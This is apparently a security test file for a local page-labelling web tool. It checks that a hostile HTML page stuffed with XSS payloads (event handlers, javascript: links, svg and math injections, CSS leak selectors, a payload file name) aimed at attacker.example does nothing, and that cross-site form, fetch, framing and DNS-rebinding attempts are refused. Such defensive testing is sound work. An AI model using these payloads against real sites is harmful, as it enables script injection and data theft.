// A hostile page does nothing and sends nothing; another site's page can do nothing.

import assert from "node:assert/strict";
import { existsSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import { join } from "node:path";
import { after, test } from "node:test";

import { close, folder, labelled, person, ready, start } from "./common.mjs";

after(close);

// A server of an attacker: what it is asked for, and the page it gives.
async function attacker(t, html = "") {
  const asked = [];
  const server = createServer((request, response) => {
    asked.push(request.url);
    response.setHeader("Content-Type", "text/html");
    response.setHeader("Access-Control-Allow-Origin", "*");
    response.end(html);
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  t.after(() => server.close());
  return { asked, port: server.address().port };
}

const hostile = (base) => `<!DOCTYPE html><html onload="go()"><head>
<title>Judul</title><script>document.title="pwned"</script></title>
<meta http-equiv="refresh" content="0;url=${base}/refresh">
<base href="${base}/">
<link rel="stylesheet" href="${base}/style.css"><link rel="preload" as="script" href="${base}/preload.js">
<link rel="icon" href="${base}/icon.png"><link rel="dns-prefetch" href="${base}">
<link rel="canonical" href="javascript:alert(1)">
<style>@import "${base}/import.css"; body { background: url(${base}/background.png) }
input[value^="a"] { background: url(${base}/leak-a) } @font-face { font-family: x; src: url(${base}/font) }</style>
<script>alert("script"); fetch("${base}/fetch")</script><script src="${base}/script.js"></script>
</head><body onload="alert('load')" style="background:url(${base}/inline.png)">
<h1 onclick="alert('click')" onmouseover="alert('over')">Judul</h1>
<p id="__proto__" class="b human current" data-b="3">&lt;/script&gt;&lt;script&gt;alert("text")&lt;/script&gt;</p>
<p>&lt;img src=x onerror="alert('text image')"&gt; \${alert(1)} {{constructor.constructor('alert(1)')()}}</p>
<p>"><svg onload=alert('svg')> </textarea></title></style></script><b>keluar</b></p>
<p><a href="javascript:alert('link')">Tautan jahat</a> <a href="${base}/ping" ping="${base}/pinged">Tautan biasa</a></p>
<img src="${base}/image.png" onerror="alert('image')"><img srcset="${base}/set.png 2x" loading="eager">
<picture><source srcset="${base}/source.webp"></picture><video src="${base}/video" poster="${base}/poster" autoplay></video>
<audio src="${base}/audio" autoplay></audio><iframe src="${base}/frame"></iframe><iframe srcdoc="<script>alert('srcdoc')</script>"></iframe>
<object data="${base}/object"></object><embed src="${base}/embed">
<svg><script>alert("svg script")</script><image href="${base}/svg.png"/><use href="${base}/use#x"/><foreignObject><p>Dalam svg</p></foreignObject></svg>
<math><mtext><img src=x onerror=alert('math')></mtext></math>
<form action="${base}/form" method="post"><input name="a" value="abc" autofocus onfocus="alert('focus')"><button formaction="javascript:alert('form')">Kirim</button></form>
<details open ontoggle="alert('toggle')"><summary>Rincian</summary>Isi rincian</details>
<template><script>alert("template")</script></template><noscript><img src="${base}/noscript.png"></noscript>
<marquee onstart="alert('marquee')">Teks berjalan</marquee>
<p>Paragraf terakhir dari halaman ini, panjang dan tidak berbahaya.</p>
</body></html>`;

test("a hostile page executes nothing and sends nothing", async (t) => {
  const cwd = folder(t);
  const { asked, port } = await attacker(t);
  writeFileSync(join(cwd, "<img src=x onerror=alert('name')>.html"), hostile(`http://attacker.example:${port}`));
  const server = await start(t, cwd, [".", "--data", "my.csv"]);
  const { open, requests, errors, context } = await person(t);
  const page = await open(await server.link(0));
  const frame = page.frameLocator("#frame");
  await frame.locator("text=Paragraf terakhir").waitFor();
  await frame.locator("text=alert(\"text\")").first().waitFor();
  const count = await page.locator("#list li").count();
  for (let i = 0; i < count; i++) {
    await page.keyboard.press(i ? "ArrowDown" : "Home");
    const box = await frame.locator(`[data-b='${i}']`).boundingBox();
    await page.mouse.move(box.x + 10, box.y + 5);
    await page.mouse.click(box.x + 10, box.y + 5);
    await page.waitForTimeout(40);
  }
  for (let i = 1; i <= count; i++) {
    await page.keyboard.press("Enter");
    await page.waitForFunction((n) => document.getElementById("counter").textContent.startsWith(`${n} labelled`), i);
  }
  // The page as it is shown, opened by itself.
  const alone = await context.newPage();
  alone.on("dialog", (dialog) => errors.push(dialog.message()));
  await alone.goto(`${server.origin}/pages/0`);
  assert.equal(await alone.locator("script, img, iframe, a, form, input, svg, style, base, object, meta[http-equiv]").count(), 0);
  assert.equal(await alone.locator("[onclick], [onload], [style], [href]:not(link)").count(), 0);
  await page.waitForTimeout(1500);
  assert.ok(requests.length > 10);
  assert.deepEqual(requests.filter((url) => !url.startsWith(`${server.origin}/`)), []);
  assert.deepEqual(asked, []);
  assert.deepEqual(errors, []);
  assert.equal(await page.title(), "Saring: label");
  assert.equal(labelled(join(cwd, "my.csv")).length, count);
});

test("should the page get through after all, the frame would still do nothing", async (t) => {
  const cwd = folder(t);
  const { asked, port } = await attacker(t);
  writeFileSync(join(cwd, "a.html"), "<p>Isi halaman.");
  const server = await start(t, cwd, ["a.html", "--data", "my.csv"]);
  const { open, context, requests } = await person(t);
  const html = hostile(`http://attacker.example:${port}`);
  // The page's own HTML in place of ours, under the headers of the server.
  await context.route(`${server.origin}/pages/0`, async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: html });
  });
  const dialogs = [];
  context.on("dialog", (dialog) => { dialogs.push(dialog.message()); dialog.dismiss(); });
  const page = await open(await server.link(0));
  await page.frameLocator("#frame").locator("text=Paragraf terakhir").waitFor();
  await page.waitForTimeout(1000);
  // What the policy stops is listed as a request that was begun; none has reached the attacker.
  assert.deepEqual(asked, []);
  assert.deepEqual(dialogs, []);
  assert.ok(requests.length);
  assert.equal(await page.evaluate(() => document.getElementById("frame").contentDocument.title), "Judul");
});

test("another site's page cannot label", async (t) => {
  const cwd = folder(t);
  writeFileSync(join(cwd, "a.html"), "<p>Isi halaman.");
  const server = await start(t, cwd, ["a.html", "--data", "my.csv"]);
  const { open, context } = await person(t);
  const page = await open(await server.link(0));
  const port = new URL(server.origin).port;
  const edit = JSON.stringify({ edits: [{ page: 0, block: 0, label: "ad" }] });
  const site = await attacker(t, `<form id=f method=post enctype=text/plain action="${server.origin}/api/label">
    <input name='${edit.slice(0, -1)},"x":"' value='"}'></form>`);
  const tries = [];
  context.on("response", (response) => tries.push([response.request().method(), response.url(), response.status()]));
  // Another name, and another port of the same name: its cookies are sent to all ports.
  for (const name of ["attacker.example", "127.0.0.1"]) {
    const evil = await context.newPage();
    await evil.goto(`http://${name}:${site.port}/`);
    for (const type of ["application/json", "text/plain"]) {
      const answered = await evil.evaluate(async ([url, body, type]) => {
        try {
          const response = await fetch(url, { method: "POST", credentials: "include", mode: type === "text/plain" ? "no-cors" : "cors", headers: { "Content-Type": type }, body });
          return `${response.type} ${response.status}`;
        } catch (error) {
          return String(error);
        }
      }, [`${server.origin}/api/label`, edit, type]);
      assert.match(answered, /TypeError|opaque 0/);
    }
    const read = await evil.evaluate((url) => fetch(url, { credentials: "include" }).then((r) => r.text(), String), `${server.origin}/api/state`);
    assert.match(read, /TypeError/);
    const framed = await evil.evaluate((url) => new Promise((resolve) => {
      const frame = document.createElement("iframe");
      frame.onload = () => { try { resolve(frame.contentDocument?.body?.textContent ?? "closed"); } catch (error) { resolve(String(error)); } };
      frame.src = url;
      document.body.append(frame);
    }), `${server.origin}/`);
    assert.doesNotMatch(framed, /Retrain/);
    const script = await evil.evaluate((url) => new Promise((resolve) => {
      const element = document.createElement("script");
      element.onload = () => resolve("loaded");
      element.onerror = () => resolve("refused");
      element.src = url;
      document.body.append(element);
    }), `${server.origin}/assets/app.js`);
    assert.equal(script, "refused");
    const [posted] = await Promise.all([
      evil.waitForResponse((response) => response.request().method() === "POST"),
      evil.evaluate(() => document.getElementById("f").submit()),
    ]);
    assert.equal(posted.status(), 403, "the form has come through to the server, and no further");
    await evil.close();
  }
  assert.deepEqual(tries.filter(([method, , status]) => method === "POST" && status === 200), []);

  // A name of the attacker's that leads to this very port (DNS rebinding).
  const rebound = await context.newPage();
  const response = await rebound.goto(`http://rebound.example:${port}/`);
  assert.equal(response.status(), 403);
  const posted = await rebound.evaluate(async (body) => {
    const response = await fetch("/api/label", { method: "POST", headers: { "Content-Type": "application/json" }, body });
    return response.status;
  }, edit);
  assert.equal(posted, 403);

  assert.ok(!existsSync(join(cwd, "my.csv")));
  // And our own page still can.
  await page.keyboard.press("a");
  await page.waitForFunction(() => document.getElementById("counter").textContent.startsWith("1 labelled"));
  // Nor does the link that was used let anybody in.
  const { context: other } = await person(t);
  const thief = await other.newPage();
  assert.equal((await thief.goto(await server.link(0))).status(), 401);
  await page.reload();
  await ready(page);
});
